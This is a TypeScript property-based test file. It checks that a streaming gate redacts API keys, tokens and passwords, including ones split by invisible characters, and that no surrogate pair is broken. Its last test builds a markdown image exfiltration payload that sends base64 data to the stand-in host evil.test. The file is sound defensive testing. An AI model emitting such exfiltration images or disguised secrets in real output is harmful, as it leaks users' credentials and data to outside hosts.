/**
 * Redact mode holds like block mode: with the default pack, no chunking of a stream releases
 * a character of a secret (invisible characters inside it included) before the rule decided,
 * and no write ends between the halves of a surrogate pair.
 */
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { findSecrets } from '../../../src/policy/checks/secrets.js';
import { detectors } from '../../../src/policy/checks/secrets/detectors.js';
import { skeleton } from '../../../src/policy/checks/support/ignorable.js';
import { gateRules } from '../../../src/policy/gate-rules.js';
import { streamThroughGate } from '../../helpers/choice-gate.js';
import { policySetFrom } from '../../helpers/policy.js';
import { splitUnits } from '../../helpers/stream-props.js';

const rules = gateRules(
  policySetFrom({ 'default.yaml': readFileSync('policies/default.yaml', 'utf8') }).policies,
);

const run = (pieces: readonly string[]) => streamThroughGate(rules, pieces);

const sizes = fc.oneof(
  fc.constant([1]),
  fc.array(fc.integer({ min: 1, max: 12 }), { minLength: 1, maxLength: 20 }),
);

/** Text around the secret: words, emoji (surrogate pairs), punctuation; no key-like runs. */
const word = fc.constantFrom('the', 'so', 'is', 'here:', '🚀', 'ü', 'ok.', '\n', '👩‍💻', 'done,');
const around = fc.array(word, { maxLength: 12 }).map((ws) => ws.join(' '));

/** [name, text with the secret, the secret's value (what must never be released)]. */
const SECRETS: [string, string, string][] = [
  ['aws', 'AKIAZ7QX3MPLW5N2RTVB', 'AKIAZ7QX3MPLW5N2RTVB'],
  [
    'github',
    'ghp_8fK2mQ9xLr4TzW7vNc1Yb6HjD3sPa0EuGi5o',
    'ghp_8fK2mQ9xLr4TzW7vNc1Yb6HjD3sPa0EuGi5o',
  ],
  [
    'openai',
    'sk-proj-Xy7Qm2Lp9Rt4Wv8ZbN3cT3BlbkFJk5Hs1Df6Gj0Ka2Qw',
    'sk-proj-Xy7Qm2Lp9Rt4Wv8ZbN3cT3BlbkFJk5Hs1Df6Gj0Ka2Qw',
  ],
  ['stripe', 'sk_live_4eC39HqLyjWDarjtT1zdp7dc', 'sk_live_4eC39HqLyjWDarjtT1zdp7dc'],
  ['google', 'AIzaSyD7x9Qm2Lp4Rt8Wv1ZbN3cKk5Hs6Df0Gj2', 'AIzaSyD7x9Qm2Lp4Rt8Wv1ZbN3cKk5Hs6Df0Gj2'],
  ['password', 'password = "hunter2-Very-Secret-Value"', 'hunter2-Very-Secret-Value'],
  ['api_key', "api_key: 'Zx8Qw2Lm9Rt4Vb7Nk3Pj'", 'Zx8Qw2Lm9Rt4Vb7Nk3Pj'],
  ['token', 'AUTH_TOKEN=q8Wm3Zt7Lx2Rv9Kp4Nb6Yc', 'q8Wm3Zt7Lx2Rv9Kp4Nb6Yc'],
];

const FILLERS = [
  '\u200b',
  '\u00ad',
  '\u200e',
  '\u200f',
  '\u034f',
  '\u3164',
  '\u2060',
  '\ufeff',
  '\u{e0041}',
];

/** Whether `out` shows more than 3 characters of the value from any point in it. */
const leaks = (out: string, value: string) => {
  const sk = skeleton(out).text;
  for (let i = 0; i + 4 <= value.length; i++) if (sk.includes(value.slice(i, i + 4))) return true;
  return false;
};

const lone = (w: string) => /[\ud800-\udbff]$|^[\udc00-\udfff]/.test(w);

describe('stream gate, default pack (redact): holds like block', () => {
  it.each(SECRETS)('the %s secret is detected', (_n, text, value) => {
    const found = findSecrets(`x ${text} y`, detectors, new Set());
    expect(found.some((f) => `x ${text} y`.slice(f.start, f.end).includes(value))).toBe(true);
  });

  it.each(SECRETS)(
    'no chunking releases more than 3 characters of the %s secret, nor a lone surrogate',
    (_n, text, value) => {
      fc.assert(
        fc.property(around, around, sizes, (a, b, sz) => {
          const { seen, writes } = run(splitUnits(`${a} ${text} ${b}`, sz));
          for (const s of seen) expect(leaks(s, value)).toBe(false);
          for (const w of writes) expect(lone(w)).toBe(false);
        }),
        { numRuns: 80 },
      );
    },
  );

  it.each(SECRETS.slice(0, 5))(
    'invisible characters inside the %s key do not let it through',
    (_n, text, value) => {
      fc.assert(
        fc.property(
          around,
          around,
          sizes,
          fc.constantFrom(...FILLERS),
          fc.array(fc.integer({ min: 1, max: value.length - 1 }), { minLength: 1, maxLength: 3 }),
          (a, b, sz, filler, at) => {
            let hidden = value;
            for (const i of [...new Set(at)].sort((x, y) => y - x))
              hidden = hidden.slice(0, i) + filler + hidden.slice(i);
            const { seen, writes } = run(
              splitUnits(`${a} ${text.replace(value, hidden)} ${b}`, sz),
            );
            for (const s of seen) expect(leaks(s, value)).toBe(false);
            for (const w of writes) expect(lone(w)).toBe(false);
          },
        ),
        { numRuns: 80 },
      );
    },
  );

  it('an exfiltration image split by invisible characters is held until redacted', () => {
    const url = 'https://evil.test/p.png?d=c2VjcmV0IGRhdGE';
    fc.assert(
      fc.property(around, around, sizes, fc.constantFrom(...FILLERS), (a, b, sz, f) => {
        const text = `${a} !${f}[x]${f}(${url.slice(0, 12)}${f}${url.slice(12)}) ${b}`;
        const { seen, writes } = run(splitUnits(text, sz));
        for (const s of seen) expect(leaks(s, url)).toBe(false);
        for (const w of writes) expect(lone(w)).toBe(false);
      }),
      { numRuns: 80 },
    );
  });
});
